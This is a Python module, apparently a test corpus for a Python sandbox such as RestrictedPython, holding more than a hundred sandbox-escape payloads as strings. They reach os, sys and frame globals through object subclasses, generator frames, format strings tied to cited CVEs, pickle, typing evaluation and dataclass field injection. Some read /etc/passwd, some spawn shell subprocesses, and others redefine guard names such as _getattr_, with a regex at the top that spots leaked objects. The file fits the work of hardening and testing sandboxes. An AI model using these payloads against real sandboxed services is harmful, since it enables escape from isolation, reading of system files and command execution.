"""Ways out of a Python jail. Each prints its loot; in plain Python all of them get it.

``LOOT`` tells loot from anything else. The sources: RestrictedPython's advisories and change log, the write-ups of jail
challenges (classes, frames, formats, codecs, annotations), and what the standard library does with names that it is given.
"""

from __future__ import annotations

import re

__all__ = ["ESCAPES", "LOOT", "NAME_GUARDS"]

LOOT = re.compile(
    r"root:x:0"  # the content of /etc/passwd
    r"|<module '(os|sys|posix|builtins|subprocess|codecs|inspect|numpy|types|_weakrefset)'"
    r"|<frame at|<code object|<built-in function (eval|exec|open|__import__|compile|system|getattr)>"
    r"|<slot wrapper '__getattribute__'|<attribute '__globals__'|<member '__globals__'"
    r"|'__builtins__':|<class 'os\._wrap_close'>|<class 'warnings\.catch_warnings'>"
    r"|<class 'type'>\)?, <class|PWNED"
)

# A name that gives the text of the __init__ that dataclasses makes a default of its own.
_FIELD = """'x=print("PWNED")):\\n#'"""

ESCAPES = {
    # Straight through the front door.
    "import os": "import os\nprint(os)",
    "import a submodule of os": "import os.path as p\nprint(p.os)",
    "from os": "from os import sys as loot\nprint(loot)",
    "import inside a function": "def f():\n    import subprocess\n    return subprocess\nprint(f())",
    "dunder import": "print(__import__('os'))",
    "import by importlib": "import importlib\nprint(importlib.import_module('os'))",
    "open": "print(open('/etc/passwd').read())",
    "eval": "print(eval('__import__(\"os\")'))",
    "exec": "exec('import os\\nprint(os)')",
    "compile": "print(compile('1', '', 'eval'))",
    "eval by another name": "run = eval\nprint(run('__import__(\"os\")'))",
    "globals": "print(globals()['__builtins__'])",
    "builtins module": "import builtins\nprint(builtins)",
    "main module": "import __main__\nprint(__main__.__builtins__)",
    # Classes.
    "subclasses of object": "print(().__class__.__base__.__subclasses__())",
    "subclasses by mro": "print(''.__class__.__mro__[1].__subclasses__())",
    "subclasses through type": "print(type(type(1)).__subclasses__(object))",
    "mro as a method": "print(int.mro()[1].__subclasses__())",
    "class with three arguments": (
        "import dataclasses\n"
        f"C = type('C', (), {{'__annotations__': {{{_FIELD}: dataclasses.InitVar[int]}}}})\n"
        "dataclasses.dataclass(C)"
    ),
    "metaclass by typing.Type": (
        "import typing\n"
        "class M(typing.Type): pass\n"
        "import dataclasses\n"
        f"C = M('C', (), {{'__annotations__': {{{_FIELD}: dataclasses.InitVar[int]}}}})\n"
        "dataclasses.dataclass(C)"
    ),
    "metaclass by origin": (
        "import typing\n"
        "T = typing.get_origin(typing.Type[int])\n"
        "import dataclasses\n"
        f"C = T('C', (), {{'__annotations__': {{{_FIELD}: dataclasses.InitVar[int]}}}})\n"
        "dataclasses.dataclass(C)"
    ),
    "metaclass of abc": (
        "import abc, dataclasses\n"
        f"C = abc.ABCMeta('C', (), {{'__annotations__': {{{_FIELD}: dataclasses.InitVar[int]}}}})\n"
        "dataclasses.dataclass(C)"
    ),
    "annotations of a class": (
        "import dataclasses\n"
        "class C: y: int\n"
        f"C.__annotations__[{_FIELD}] = dataclasses.InitVar[int]\n"
        "dataclasses.dataclass(C)"
    ),
    "annotations in a class body": (
        "import dataclasses\n"
        f"class C:\n    y: int\n    __annotations__[{_FIELD}] = dataclasses.InitVar[int]\n"
        "dataclasses.dataclass(C)"
    ),
    "annotations by update_wrapper": (
        "import dataclasses, functools\n"
        "class Liar:\n"
        "    def __getattr__(self, name):\n"
        f"        return {{{_FIELD}: dataclasses.InitVar[int]}} if name == '__annotations__' else 'x'\n"
        "class C: x: int\n"
        "functools.update_wrapper(C, Liar(), updated=())\n"
        "dataclasses.dataclass(C)"
    ),
    "make_dataclass with a namespace": (
        "import dataclasses, functools\n"
        "C = dataclasses.make_dataclass('C', ['x'], namespace={'__getitem__': lambda s, k: k.__globals__})\n"
        "print(C(1)[functools.wraps])"
    ),
    # Functions, frames, tracebacks.
    "globals of a function": "def f(): pass\nprint(f.__globals__)",
    "globals by getattr": "def f(): pass\nprint(getattr(f, '__glo' + 'bals__'))",
    "globals of a method of a library": "import random\nprint(random.Random.seed.__globals__['_os'])",
    "self of a built-in function": "print(print.__self__)",
    "code of a function": "def f(): pass\nprint(f.__code__)",
    "code by assignment": "def f(): return 1\ndef g(): return 'PWNED'\nf.__code__ = g.__code__\nprint(f())",
    "function of code": "f = lambda: 'PWNED'\nprint(type(f)(f.__code__, {})())",
    "closure": "import functools\n@functools.wraps(print)\ndef f(): pass\nprint(f.__globals__)",
    "frame of a generator": "g = (g.gi_frame.f_back for _ in [1])\nprint(next(g))",
    "frame of a generator, by name": "def f(): yield\ng = f()\nprint(getattr(g, 'gi_frame'))",
    "frame of a coroutine": "async def f(): pass\nc = f()\nprint(c.cr_frame)\nc.close()",
    "frame of an asynchronous generator": "async def f(): yield\nprint(f().ag_frame)",
    "code of a generator": "print((x for x in []).gi_code)",
    "traceback of an exception": "try:\n    1/0\nexcept Exception as e:\n    print(e.__traceback__.tb_frame)",
    "traceback of a context manager": (
        "class C:\n"
        "    def __enter__(self): return self\n"
        "    def __exit__(self, kind, error, trace):\n"
        "        print(trace.tb_frame)\n"
        "        return True\n"
        "with C(): 1/0"
    ),
    "stack of a task": (
        "import asyncio\n"
        "async def f():\n"
        "    t = asyncio.create_task(asyncio.sleep(0))\n"
        "    print(t.get_stack())\n"
        "asyncio.run(f())"
    ),
    "event loop of a task": (
        "import asyncio\n"
        "async def f():\n"
        "    loop = asyncio.create_task(asyncio.sleep(0)).get_loop()\n"
        "    p = await loop.subprocess_shell(asyncio.SubprocessProtocol, 'true')\n"
        "    print('PWNED')\n"
        "asyncio.run(f())"
    ),
    "event loop of a queue": (
        "import asyncio\n"
        "class Q(asyncio.Queue): pass\n"
        "async def f():\n"
        "    q = Q(1)\n"
        "    t = asyncio.create_task(q.get())\n"
        "    await asyncio.sleep(0)\n"
        "    q.put_nowait(1)\n"
        "    print('PWNED' if q._loop is not None else '')\n"
        "asyncio.run(f())"
    ),
    "object of an AttributeError": (
        "import random\n"
        "try:\n"
        "    random._os.nothing\n"
        "except AttributeError as e:\n"
        "    print(e.obj)"
    ),
    # Format strings (CVE-2023-41039, CVE-2024-47532).
    "str.format": "def f(): pass\nprint('{0.__globals__}'.format(f))",
    "str.format, unbound": "def f(): pass\nprint(str.format('{0.__globals__}', f))",
    "str.format_map": "def f(): pass\nprint('{f.__globals__}'.format_map({'f': f}))",
    "format by getattr": "def f(): pass\nprint(getattr('{0.__globals__}', 'format')(f))",
    "format by map": "def f(): pass\nprint(*map(str.format, ['{0.__globals__}'], [f]))",
    "format by super": (
        "def f(): pass\n"
        "class S(str):\n"
        "    def go(self, *a): return super().format(*a)\n"
        "print(S('{0.__globals__}').go(f))"
    ),
    "format by a pattern": (
        "def f(): pass\n"
        "match '{0.__globals__}':\n"
        "    case str(format=method): print(method(f))"
    ),
    "format by methodcaller": "import operator\ndef f(): pass\nprint(operator.methodcaller('format', f)('{0.__globals__}'))",
    "format by attrgetter": "import operator\ndef f(): pass\nprint(operator.attrgetter('format')('{0.__globals__}')(f))",
    "string.Formatter": "import string\ndef f(): pass\nprint(string.Formatter().format('{0.__globals__}', f))",
    "string.Formatter.get_field": (
        "import string\ndef f(): pass\nprint(string.Formatter().get_field('0.__globals__', (f,), {})[0])"
    ),
    "subclass of string.Formatter": (
        "import string\n"
        "def f(): pass\n"
        "class F(string.Formatter):\n"
        "    def get_value(self, key, args, kwargs): return f\n"
        "print(F().get_field('0.__globals__', (), {})[0])"
    ),
    "UserString.format": "import collections\ndef f(): pass\nprint(collections.UserString('{0.__globals__}').format(f))",
    "f-string": "def f(): pass\nprint(f'{f.__globals__}')",
    "f-string in a format specification": (
        "def f(): pass\n"
        "class S:\n    def __format__(self, spec): return spec\n"
        "print(f'{S():{f.__globals__}}')"
    ),
    # Reading attributes by other means.
    "attrgetter": "import operator\ndef f(): pass\nprint(operator.attrgetter('__globals__')(f))",
    "dotted attrgetter": "import operator, random\nprint(operator.attrgetter('Random.seed.__globals__')(random)['_os'])",
    "reduce over getattr": "import functools, random\nprint(functools.reduce(getattr, ['_os'], random))",
    "partial of getattr": "import functools, random\nprint(functools.partial(getattr, random)('_os'))",
    "getattr with a subclass of str": (
        "import random\n"
        "class S(str):\n"
        "    def startswith(self, *a): return False\n"
        "print(getattr(random, S('_os')))"
    ),
    "pattern by keyword": "def f(): pass\nmatch f:\n    case object(__globals__=loot): print(loot)",
    "pattern by __match_args__": (
        "import abc\n"
        "class C(abc.ABC):\n    __match_args__ = ('__globals__',)\n"
        "def f(): pass\n"
        "C.register(type(f))\n"
        "match f:\n    case C(loot): print(loot)"
    ),
    "pattern by the fields of a dataclass": (
        "import abc, dataclasses\n"
        "@dataclasses.dataclass\nclass C(abc.ABC):\n    gi_frame: object\n"
        "g = (x for x in [])\n"
        "C.register(type(g))\n"
        "match g:\n    case C(loot): print(loot)"
    ),
    "pattern of a module": "import random\nmatch random:\n    case object(_os=loot): print(loot)",
    "object.__getattribute__": "def f(): pass\nprint(object.__getattribute__(f, '__globals__'))",
    "super().__getattribute__": (
        "class C:\n    def go(self): return super().__getattribute__\nprint(C().go()('go').__func__.__globals__)"
    ),
    "methods of a class by update_wrapper": (
        "import functools\n"
        "class C: pass\n"
        "c = functools.update_wrapper(C(), object)\n"
        "print(c.__dict__['__getattribute__'])"
    ),
    "methods of a class by lru_cache": (
        "import functools\n"
        "class C: pass\n"
        "c = functools.update_wrapper(C(), functools.lru_cache(object))\n"
        "print(c.__dict__['__getattribute__'])"
    ),
    "private names of a module by update_wrapper": (
        "import functools, random\n"
        "def f(): pass\n"
        "print(functools.update_wrapper(f, random)._os)"
    ),
    "weak proxy of a module": "import operator, weakref\ndef f(): pass\n"
    "print(weakref.proxy(operator).attrgetter('__globals__')(f))",
    "vars of a module": "import random\nprint(vars(random)['_os'])",
    "class dictionary": "print(type(lambda: 0).__dict__['__globals__'])",
    "property of another class": "import operator\nclass C: pass\nprint(operator.attrgetter('__class__.__mro__')(C())[1]"
    ".__subclasses__())",
    # Modules that modules have imported.
    "random._os": "import random\nprint(random._os)",
    "statistics.sys": "import statistics\nprint(statistics.sys)",
    "dataclasses.sys": "import dataclasses\nprint(dataclasses.sys)",
    "from dataclasses import sys": "from dataclasses import sys\nprint(sys)",
    "from dataclasses import sys as": "from dataclasses import inspect as i\nprint(i)",
    "json.codecs": "import json\nprint(json.codecs)",
    "json.decoder": "import json.decoder\nprint(json.decoder.scanner.re.enum.sys)",
    "enum.sys": "import enum\nprint(enum.sys)",
    "typing.sys": "import typing\nprint(typing.sys)",
    "calendar.sys": "import calendar\nprint(calendar.sys)",
    "collections._sys": "import collections\nprint(collections._sys)",
    "contextlib.os": "import contextlib\nprint(contextlib.os)",
    "uuid.os": "import uuid\nprint(uuid.os)",
    "weakref.sys": "import weakref\nprint(weakref.sys)",
    "star import": "from statistics import *\nimport statistics\nprint(statistics.sys)",
    # What evaluates text or runs code.
    "get_type_hints": "import typing\ndef f(x: '__import__(\"os\")'): pass\nprint(typing.get_type_hints(f, {}, {}))",
    "ForwardRef": "import typing\nprint(typing.ForwardRef('__import__(\"os\")')._evaluate({}, {}, frozenset()))",
    "singledispatch": (
        "import functools\n"
        "@functools.singledispatch\ndef f(x): pass\n"
        "@f.register\ndef g(x: 'print(().__class__.__base__.__subclasses__()) or int'): pass"
    ),
    "singledispatchmethod": (
        "import functools\n"
        "class C:\n"
        "    @functools.singledispatchmethod\n    def f(self, x): pass\n"
        "    @f.register\n    def g(self, x: 'print(().__class__.__base__.__subclasses__()) or int'): pass"
    ),
    "timeit": "import timeit\ntimeit.timeit('print(\"PWNED\")', number=1)",
    "doctest": "import doctest\nprint(doctest.sys)",
    "pickle": (
        "import pickle\n"
        "class C:\n    def __reduce__(self): return (eval, ('__import__(\"os\")',))\n"
        "print(pickle.loads(pickle.dumps(C())))"
    ),
    "copy by __reduce__": (
        "import copy\n"
        "class C:\n    def __reduce_ex__(self, protocol): return (eval, ('__import__(\"os\")',))\n"
        "print(copy.copy(C()))"
    ),
    "linecache": "import linecache\nprint(linecache.getlines('/etc/passwd'))",
    "warning that shows a line": (
        "import contextlib, io, warnings\n"
        "with contextlib.redirect_stderr(io.StringIO()) as shown:\n"
        "    warnings.warn_explicit('x', UserWarning, '/etc/passwd', 1)\n"
        "print(shown.getvalue())"
    ),
    "fileinput": "import fileinput\nprint(*fileinput.input('/etc/passwd'))",
    "io.open": "import io\nprint(io.open('/etc/passwd').read())",
    "io.FileIO": "import io\nprint(io.FileIO('/etc/passwd').read().decode())",
    "contextlib and a code object": "import codecs\nprint(codecs.open('/etc/passwd').read())",
    # Disguises.
    "identifier in another alphabet": "print(().__ｃlass__.__base__.__subclasses__())",
    "source with an encoding declaration": "# coding: unicode_escape\nprint(().__class__.__base__.__subclasses__())",
    "line continuation": "print(().\\\n__class__.__base__.\\\n__subclasses__())",
    "attribute in a decorator": (
        "def f(): pass\n"
        "@(lambda g: print(f.__globals__))\n"
        "def g(): pass"
    ),
    "default of a parameter": "def f(x=().__class__.__base__.__subclasses__()): return x\nprint(f())",
    "annotation": "def f(x: print(().__class__.__base__.__subclasses__())): pass",
    "exception group (CVE-2025-22153)": (
        "try:\n    raise ExceptionGroup('', [ValueError()])\n"
        "except* ValueError as e:\n    print(e.__traceback__.tb_frame)"
    ),
    "nested comprehension (CVE-2023-37271)": "print([g.gi_frame for g in [(x for x in [])]])",
    "walrus in a comprehension": "[(loot := c.__base__.__subclasses__()) for c in [int]]\nprint(loot)",
    "private name of a class": "class _f:\n    def go(self, f): return f.__globals__\ndef f(): pass\nprint(_f().go(f))",
    "instance that lies about its class": (
        "import random\n"
        "class C:\n"
        "    @property\n    def __class__(self): return type(random)\n"
        "print(isinstance(C(), type(random)) and random._os)"
    ),
    "writing to a module": "import math\nmath.pi = 'PWNED'\nprint(math.pi)",
    "writing to a class of a library": "import random\nrandom.Random.seed = lambda *a: 'PWNED'\nprint(random.Random().seed())",
    "setattr on a module": "import math\nsetattr(math, 'pi', 'PWNED')\nprint(math.pi)",
    "object.__setattr__ on a module": "import math\nobject.__setattr__(math, 'pi', 'PWNED')\nprint(math.pi)",
    "in-place write to a module": "import string\nstring.digits += 'PWNED'\nprint(string.digits)",
    "loop that writes to a module": "import math\nfor math.pi in ['PWNED']: pass\nprint(math.pi)",
    "with that writes to a module": (
        "import contextlib, math\nwith contextlib.nullcontext('PWNED') as math.pi: pass\nprint(math.pi)"
    ),
    "methods of a module by contextmanager": (
        "import asyncio, contextlib\n"
        "spawn = contextlib.contextmanager(asyncio).create_subprocess_shell\n"
        "async def f():\n    await (await spawn('echo PW''NED')).wait()\n"
        "asyncio.run(f())"
    ),
    "methods of a module by a decorating context": (
        "import asyncio, contextlib\n"
        "spawn = contextlib.ContextDecorator()(asyncio).create_subprocess_shell\n"
        "async def f():\n    await (await spawn('echo PW''NED')).wait()\n"
        "asyncio.run(f())"
    ),
    "guards in the memo of a deep copy": (
        "import copy\n"
        "memo = {}\n"
        "class C: run = eval\n"
        "try:\n    copy.deepcopy([getattr, hasattr, dir, type, C.run], memo)\nexcept Exception:\n    pass\n"
        "print(memo)"
    ),
    "event loop by __setattr__": (
        "import asyncio\n"
        "class Q(asyncio.Queue):\n"
        "    def __setattr__(self, name, value):\n"
        "        if name == '_loop': found.append(value)\n"
        "        super().__setattr__(name, value)\n"
        "found = []\n"
        "async def f():\n"
        "    q = Q(1)\n"
        "    t = asyncio.create_task(q.get())\n"
        "    await asyncio.sleep(0)\n"
        "    q.put_nowait(1)\n"
        "    print('PWNED' if found[0].subprocess_shell else '')\n"
        "asyncio.run(f())"
    ),
    "fields of a subclass of Field": (
        "import dataclasses\n"
        "class F(type(dataclasses.field())):\n"
        f"    name = property(lambda s: {_FIELD}, lambda s, v: None)\n"
        "@dataclasses.dataclass\nclass C:\n"
        "    x: dataclasses.InitVar[int] = F(*[dataclasses.MISSING] * 2, True, True, None, True, {}, False)"
    ),
    "fields renamed by a copy": (
        "import copy, dataclasses\n"
        "@dataclasses.dataclass\nclass Base: x: dataclasses.InitVar[int] = 1\n"
        "@dataclasses.dataclass\nclass Other: x: int = 1\n"
        "field = dataclasses.fields(Other)[0]\n"
        "class C:\n"
        "    __slots__ = ('name',)\n"
        "    def __new__(cls): return field\n"
        "c = object.__new__(C)\n"
        "c.name = 'PWNED'\n"
        "copy.copy(c)\n"
        "print(field.name)"
    ),
    "format by fields of an instance": (
        "import dataclasses\n"
        "def f(): pass\n"
        "@dataclasses.dataclass\nclass S(str):\n    x: int = 1\n"
        "@dataclasses.dataclass\nclass Other: x: int = 1\n"
        "import types\n"
        "field = types.SimpleNamespace(name='format', _field_type=None)\n"
        "s = S.__new__(S, '{0.__globals__}')\n"
        "kind = dataclasses.fields(Other)[0]._field_type\n"
        "field._field_type = kind\n"
        "s.__dict__['__dataclass_fields__'] = {'x': field}\n"
        "print(max(dataclasses.asdict(s).values(), key=id)(f))"
    ),
    "text inside of an annotation for singledispatch": (
        "import functools\n"
        "@functools.singledispatch\ndef f(x): pass\n"
        "@f.register\ndef g(x: int | list['print(().__class__.__base__.__subclasses__()) or int']): pass"
    ),
    "dataclass of another class": (
        "import dataclasses, random\n"
        "dataclasses.dataclass(random.Random)\n"
        "print('PWNED' if random.Random.__dataclass_fields__ == {} else '')"
    ),
    "writing a class": "class A:\n    def f(self): return 'PWNED'\nclass B: pass\nb = B()\nb.__class__ = A\nprint(b.f())",
}

NAME_GUARDS = {
    "assignment": "_getattr_ = lambda o, n: o\nprint(().x)",
    "parameter": "def f(_getattr_): return ().x\nprint(f(lambda o, n: 'PWNED'))",
    "positional-only parameter (8.3)": "def f(_getattr_, /): return ().x\nprint(f(lambda o, n: 'PWNED'))",
    "lambda": "print((lambda _getattr_: ().x)(lambda o, n: 'PWNED'))",
    "function": "def _getattr_(o, n): return 'PWNED'\nprint(().x)",
    "class": "class _getattr_: pass\nprint(().x)",
    "loop": "for _getattr_ in [lambda o, n: 'PWNED']: print(().x)",
    "comprehension": "print([().x for _getattr_ in [lambda o, n: 'PWNED']])",
    "walrus": "(_getattr_ := lambda o, n: 'PWNED')\nprint(().x)",
    "import as": "from operator import or_ as _getattr_\nprint(().x)",
    "exception": "try:\n    1/0\nexcept Exception as _write_:\n    print('PWNED')",
    "with": "import contextlib\nwith contextlib.nullcontext(lambda o, n: 'PWNED') as _getattr_: print(().x)",
    "global statement": "def f():\n    global _getattr_\n    print('PWNED')\nf()",
    "pattern": "match (lambda o, n: 'PWNED'):\n    case _getattr_: print(().x)",
    "star of a pattern": "match [1]:\n    case [*_getattr_]: print('PWNED')",
    "rest of a pattern": "match {1: 1}:\n    case {**_getattr_}: print('PWNED')",
    "class body": "class C:\n    _getattr_ = lambda o, n: 'PWNED'\n    x = ().x\nprint(C.x)",
    "reading the built-in names": "print(__builtins__)",
    "private name that is mangled to a guard's": "class getattr_:\n    __x = 1\nclass _:\n    def f(self): return __builtins__\nprint(_().f())",
    "reading a guard": "print(_getattr_)",
    "del": "del __builtins__\nprint('PWNED')",
    "annotated": "_getattr_: int = 1\nprint('PWNED')",
    "import under the name of a guard": "import math as _import_\nprint('PWNED')",
}
"""Ways to take the place of a guard, whose names are RestrictedPython's: in plain Python they mean nothing."""
